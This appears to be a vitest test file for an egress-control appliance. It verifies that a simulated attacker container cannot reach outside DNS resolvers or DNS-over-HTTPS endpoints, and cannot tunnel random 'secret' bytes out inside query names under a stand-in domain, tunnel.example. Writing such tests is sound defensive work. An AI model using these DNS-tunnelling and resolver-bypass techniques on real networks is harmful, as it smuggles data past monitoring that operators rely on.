/**
 * A bad agent asks for names: other servers, the engine's own resolver, tunnelling by names, the appliance by its names and
 * addresses (threats rows 15, 16, 17, 20, 24). The witness is what the internet was asked.
 */
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import type { Agent } from './kit/agent.ts';
import { APPLIANCE_ADDRESS, type Appliance, startAppliance } from './kit/appliance.ts';
import { startAttacker } from './kit/attacker.ts';
import { contacts, forget, ORIGIN, packets, setZone } from './kit/internet.ts';
import { describeOnEngine } from './kit/lab.ts';

const RULES = `version: "1"
rules:
  - id: allowed
    condition: domain(http.host, "asked.example")
    action: allow
`;

/** The resolver that Docker puts into each container of a network that was made by name. */
const EMBEDDED = '127.0.0.11';
const SERVERS = ['198.51.100.53', '198.18.0.53', '172.17.0.1', '10.203.0.1', '198.51.100.2'];

describeOnEngine('an agent that asks for names', () => {
  let appliance: Appliance;
  let attacker: Agent;

  beforeAll(async () => {
    await setZone({ 'asked.example': ORIGIN, 'doh.example': '198.18.0.53' });
    appliance = await startAppliance({ rules: RULES, fresh: true });
    attacker = await startAttacker();
  });
  afterAll(async () => {
    await attacker?.[Symbol.asyncDispose]();
    await appliance?.[Symbol.asyncDispose]();
  });
  beforeEach(forget);

  async function asked(): Promise<readonly string[]> {
    return (await contacts()).filter(({ kind }) => kind === 'query').map(({ what }) => what);
  }

  it('gets nothing of outside from the engine’s resolver, with and without the appliance as its server', async () => {
    await using own = await startAttacker({ dns: false });
    await using free = await startAttacker({ network: 'outcall-uplink', dns: false });
    for (const agent of [attacker, own]) {
      const answer = await agent.exec(['dig', '+tries=1', '+timeout=2', `@${EMBEDDED}`, 'doh.example']);
      expect(answer.stdout).not.toContain('198.18.0.53');
    }
    expect(await asked()).toEqual([]);
    expect(await packets('inet')).toEqual([]);
    const elsewhere = await free.exec(['dig', '+tries=1', '+timeout=2', `@${EMBEDDED}`, 'doh.example']);
    expect(elsewhere.stdout).toContain('198.18.0.53');
    expect(await asked()).toContain('doh.example A');
  });

  it('gets no answer of another server, by UDP, TCP, TLS or HTTPS', async () => {
    const question = ['+tries=1', '+timeout=1', 'asked.example'];
    for (const server of SERVERS) {
      for (const how of ['+notcp', '+tcp', '+tls', '+https']) {
        const { code, stdout } = await attacker.exec(['dig', how, `@${server}`, ...question]);
        expect([server, how, code === 0 && stdout.includes('status: NOERROR')]).toEqual([server, how, false]);
      }
    }
    await attacker.curl('--insecure', 'https://doh.example/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB');
    await attacker.curl('--insecure', `https://${SERVERS[1]}/dns-query`);
    expect(await packets('inet')).toEqual([]);
    expect((await attacker.exec(['dig', `@${APPLIANCE_ADDRESS}`, ...question])).stdout).toContain('status: NOERROR');
  });

  it('carries no byte out in names: those of others are denied, those of a rule answered without asking', async () => {
    const secret = () => `${randomBytes(30).toString('hex')}.${randomBytes(30).toString('hex')}`;
    const names = Array.from({ length: 60 }, (_, index) => [
      index % 2 === 0 ? `${secret()}.tunnel.example` : `${secret()}.asked.example`,
      ['A', 'AAAA', 'TXT', 'NULL', 'CNAME', 'MX', 'ANY', 'HTTPS', 'SVCB', 'SRV'][index % 10] as string,
    ]);
    const { stdout } = await attacker.exec(['dig', '+tries=1', '+timeout=2', '+short', ...names.flat()]);
    const addresses = stdout.split('\n').filter((line) => /^\d/.test(line));
    expect(addresses.filter((address) => !address.startsWith('10.203.'))).toEqual([]);
    expect(await asked()).toEqual([]);
    expect(await packets('inet')).toEqual([]);
    expect((await attacker.curl('http://asked.example/asked')).stdout).toContain('GET /asked');
    expect(await asked()).toEqual(expect.arrayContaining(['asked.example A']));
  });
});
